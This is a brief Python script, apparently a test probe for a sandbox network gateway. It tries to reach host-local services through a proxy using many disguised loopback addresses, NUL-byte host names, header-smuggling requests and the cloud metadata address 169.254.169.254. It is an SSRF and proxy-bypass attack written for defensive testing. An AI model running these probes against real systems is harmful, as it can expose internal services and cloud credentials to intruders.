# tries: tricks the gateway into connecting to services on the host
# seen-in: CVE-2024-29021 Judge0; hosts with a NUL byte, sandbox-runtime
# walls: gateway
# network: full
import os, socket
port = os.environ["PORT"]
names = ["127.0.0.1", "localhost", "LOCALHOST.", "127.1", "0", "0.0.0.0", "0x7f000001", "2130706433", "017700000001",
         "[::1]", "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "localhost\0.example.com",
         "127.0.0.1%00.example.com", "user@127.0.0.1", "169.254.169.254", "[fe80::1]", "10.0.0.1"]
for name in names:
    for head in (f"CONNECT {name}:{port} HTTP/1.1\r\n\r\n", f"GET http://{name}:{port}/ HTTP/1.1\r\nHost: {name}\r\n\r\n",
                 f"GET http://{name}:{port}/ HTTP/1.1\r\nHost: example.com\r\nX: \rConnection: keep-alive\n\r\n"):
        try:
            with socket.create_connection(("127.0.0.1", 3128), 2) as proxy:
                proxy.sendall(head.encode())
                print(name, proxy.recv(1000)[:60])
        except OSError: pass
for address in ("127.0.0.1", "127.1.2.3", "0.0.0.0", "10.0.0.1", "169.254.169.254"):
    for there in (int(port), 80, 443):
        try:
            with socket.create_connection((address, there), 2) as client:
                client.sendall(b"GET / HTTP/1.0\r\n\r\n")
                print(address, client.recv(1000))
        except OSError: pass
print("attempted")
